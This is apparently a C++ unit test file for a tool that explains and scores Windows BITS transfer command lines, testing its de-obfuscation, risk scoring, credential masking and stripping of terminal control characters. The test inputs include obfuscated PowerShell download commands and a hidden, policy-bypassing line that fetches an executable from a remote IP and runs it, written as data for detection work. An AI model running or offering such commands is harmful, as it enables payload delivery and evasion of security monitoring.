#include "programs/explain.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <string>
#include <string_view>

#include "text/utf8.h"

namespace programs {
namespace {

using bits::Examiner;

const Examiner& examiner() {
  static const Examiner made = [] {
    splunk::chunked::Messages messages;
    return Examiner::make({}, {}, messages).value();
  }();
  return made;
}

std::string explained(std::string_view line, const bits::Surroundings& row = {},
                      std::string_view original_file_name = {}) {
  return explanation(examiner(), {line, row.process_name, original_file_name}, row);
}

bool holds(const std::string& text, std::string_view part) {
  return text.find(part) != std::string::npos;
}

// What stands under a heading, up to the blank line behind it; empty: there is no such heading.
std::string section(const std::string& text, std::string_view heading) {
  const std::size_t begin = ("\n" + text).find("\n" + std::string(heading));
  if (begin == std::string::npos) return "";
  const std::size_t lines = text.find('\n', begin) + 1;
  const std::size_t end = text.find("\n\n", lines);
  return text.substr(lines, end == std::string::npos ? end : end + 1 - lines);
}

constexpr std::string_view kPlain =
    "bitsadmin /transfer job /download http://example.com/a.txt C:\\Data\\a.txt";
constexpr std::string_view kHidden =
    "cmd.exe /c pow^ershell -c \"&('Start-Bits'+'Transfer') http://example.com/a.txt "
    "C:\\Data\\a.txt\"";

TEST(Explanation, SaysOfEachVerdictWhatItMeans) {
  EXPECT_TRUE(explained(kPlain).starts_with("It starts or changes a BITS transfer.\n"));
  EXPECT_EQ(explained("notepad.exe C:\\docs\\start-bitstransfer.md"),
            "It names BITS, but nothing that it runs transfers anything: the built-in set does not "
            "match it.\n");
  EXPECT_EQ(explained("ping.exe 192.0.2.1"), "It has nothing to do with BITS.\n");
  EXPECT_EQ(explained(""), "It has nothing to do with BITS.\n");
  const std::string undecided =
      explained("powershell -c \"iex $env:x; Write-Host start-bitstransfer\"");
  EXPECT_TRUE(undecided.starts_with(
      "No transfer is seen, but not everything that it runs can be known from the command line: "))
      << undecided;
  EXPECT_TRUE(holds(section(undecided, "What can't be known from the command line"), "iex $env:x"));
  EXPECT_EQ(section(undecided, "Facts"), "");
  EXPECT_TRUE(holds(undecided, "Score 41 where a wildcard matches it")) << undecided;
  EXPECT_TRUE(holds(section(undecided, "Score"), "guessed"));
}

TEST(Explanation, OfAPlainTransferHasNoPartAboutHiding) {
  const std::string text = explained(kPlain);
  EXPECT_EQ(section(text, "Layers"), "");
  EXPECT_EQ(section(text, "Without what hides it"), "");
  EXPECT_EQ(section(text, "How it is hidden"), "");
  EXPECT_EQ(section(text, "What can't be known"), "");
  EXPECT_TRUE(holds(section(text, "Facts"), "bits_url            http://example.com/a.txt\n"))
      << text;
  EXPECT_TRUE(holds(section(text, "Facts"), "bits_job_name       job\n"));
}

TEST(Explanation, ShowsTheLayersDeeperOnesFurtherIn) {
  const std::string layers = section(explained(kHidden), "Layers, from the outside in");
  const std::size_t cmd = layers.find("cmd.exe /c");
  const std::size_t host = layers.find("powershell.exe -Command");
  ASSERT_NE(cmd, std::string::npos) << layers;
  ASSERT_NE(host, std::string::npos) << layers;
  EXPECT_LT(cmd, host);
  const auto indent = [&](std::size_t at) { return at - (layers.rfind('\n', at) + 1); };
  EXPECT_LT(indent(cmd), indent(host)) << layers;
}

TEST(Explanation, ShowsWhatIsLeftAndNamesWhatHidIt) {
  const std::string text = explained(kHidden);
  EXPECT_TRUE(holds(section(text, "Without what hides it"),
                    "Start-BitsTransfer http://example.com/a.txt C:\\Data\\a.txt\n"))
      << text;
  const std::string how = section(text, "How it is hidden");
  for (const std::string_view technique : {"caret ", "concatenation ", "call-operator "}) {
    EXPECT_TRUE(holds(how, technique)) << technique << "\n" << text;
  }
}

// The parts of the score as they are printed, added; `heading`: what stands above them.
struct Score {
  int heading = -1;
  int sum = 0;
  int parts = 0;
};

Score score_of(const std::string& text) {
  Score out;
  const std::size_t begin = text.find("\nScore ");
  if (begin == std::string::npos) return out;
  out.heading = std::atoi(text.c_str() + begin + 7);
  const std::string lines = section(text, "Score ");
  for (std::size_t at = 0; at < lines.size(); at = lines.find('\n', at) + 1) {
    if (lines[at + 2] != '+' && lines[at + 2] != '-') continue;
    out.sum += std::atoi(lines.c_str() + at + 2);
    ++out.parts;
  }
  return out;
}

TEST(Explanation, PartsOfTheScoreAddUpToIt) {
  const Score plain = score_of(explained(kPlain));
  EXPECT_EQ(plain.parts, 1);
  EXPECT_EQ(plain.heading, 56);
  EXPECT_EQ(plain.sum, 56);

  const Score less = score_of(explained("bitsadmin /resume job"));
  EXPECT_EQ(less.parts, 2);
  EXPECT_LT(less.sum, 56);
  EXPECT_EQ(less.heading, less.sum);

  const Score more = score_of(explained(kHidden));
  EXPECT_GT(more.parts, 1);
  EXPECT_GT(more.sum, 56);
  EXPECT_EQ(more.heading, more.sum);
}

TEST(Explanation, SaysWhereTheScoreEndsBeforeItsSum) {
  const std::string text = explained(
      "powershell -w hidden -ep bypass -c \"&('Start-Bits'+'Transfer') "
      "http://198.51.100.9:8081/a.exe "
      "C:\\Users\\Public\\a.exe; C:\\Users\\Public\\a.exe\"",
      {"", "", "powershell.exe", "WINWORD.EXE", "", {}});
  const Score score = score_of(text);
  EXPECT_EQ(score.heading, 100) << text;
  EXPECT_GT(score.sum, 100);
  EXPECT_TRUE(
      holds(text, "  The sum is " + std::to_string(score.sum) + ": scores end at 0 and 100.\n"));
  EXPECT_FALSE(holds(explained(kPlain), "The sum is"));
}

TEST(Explanation, KnowsWhatSurroundsTheLine) {
  EXPECT_TRUE(holds(explained("C:\\x\\upd.exe /transfer j http://example.com/a.txt C:\\a.txt", {},
                              "bitsadmin.exe"),
                    "renamed-program"));
  EXPECT_TRUE(holds(explained(kPlain, {"", "", "", "WINWORD.EXE", "", {}}), "office-parent"));
}

TEST(Explanation, MasksSecretsWhereverTheyStand) {
  for (const std::string_view line :
       {"bitsadmin /setcredentials job server basic alice S3cretPw9",
        "cmd /c bits^admin /setcredentials job server basic alice S3cretPw9",
        "powershell -c \"bits`admin /setcredentials job server basic alice S3cretPw9\"",
        "powershell -c \"Start-BitsTransfer http://alice:S3cretPw9@example.com/a C:\\a\"",
        "powershell -c \"Start-BitsTrans`fer http://example.com/a C:\\a -Credential (New-Object "
        "PSCredential('alice',(ConvertTo-SecureString 'S3cretPw9' -AsPlainText -Force)))\"",
        "powershell -c \"Start-BitsTrans`fer http://example.com/a C:\\a -CustomHeaders "
        "'Authorization: Bearer S3cretPw9'\""}) {
    const std::string text = explained(line);
    EXPECT_TRUE(text.starts_with("It starts or changes a BITS transfer.")) << line;
    EXPECT_FALSE(holds(text, "S3cretPw9")) << text;
    EXPECT_TRUE(holds(text, "password-on-line") || holds(text, "custom-headers")) << text;
  }
}

TEST(Explanation, PassesNoControlCharacterOnToATerminal) {
  for (const std::string_view control : {"\x1b[2J", "\x07", "\r", "\b", "\x7f",
                                         "\xc2\x9b"
                                         "2J"}) {
    const std::string line = "cmd /c bits^admin /transfer \"j" + std::string(control) +
                             "\" http://example.com/" + std::string(control) + "a C:\\Data\\" +
                             std::string(control) + "a";
    const std::string text = explained(line);
    EXPECT_TRUE(holds(text, "\nFacts\n")) << text;
    for (std::size_t i = 0; i < text.size(); ++i) {
      const auto byte = static_cast<unsigned char>(text[i]);
      EXPECT_TRUE(byte == '\n' || (byte >= 0x20 && byte != 0x7F)) << int{byte};
      const bool is_c1 =
          byte == 0xC2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) < 0xA0;
      EXPECT_FALSE(is_c1) << "U+0080 to U+009F";
    }
  }
}

// Bytes that are no character may be controls to a terminal of another encoding, and others show
// what follows them in reverse.
TEST(Explanation, ShowsOnlyCharactersAndInTheirOrder) {
  const std::string text = explained(
      "cmd /c bits^admin /transfer \"j\x9b\" http://example.com/\xff"
      "a C:\\Data\\\xe2\x80\xae"
      "fdp.exe");
  EXPECT_TRUE(holds(text, "\nFacts\n")) << text;
  EXPECT_EQ(text::valid_utf8(text), text);
  EXPECT_FALSE(holds(text, "\xe2\x80\xae")) << text;
  EXPECT_TRUE(holds(text, "fdp.exe"));
}

TEST(Explanation, CutsAHostileText) {
  const std::string line =
      "cmd /c bits^admin /transfer j http://example.com/" + std::string(100000, 'a') + " C:\\a";
  const std::string text = explained(line);
  EXPECT_TRUE(holds(text, "\nFacts\n"));
  for (std::size_t begin = 0; begin < text.size();) {
    const std::size_t end = text.find('\n', begin);
    EXPECT_LT(end - begin, 2100U);
    begin = end + 1;
  }
}

}  // namespace
}  // namespace programs
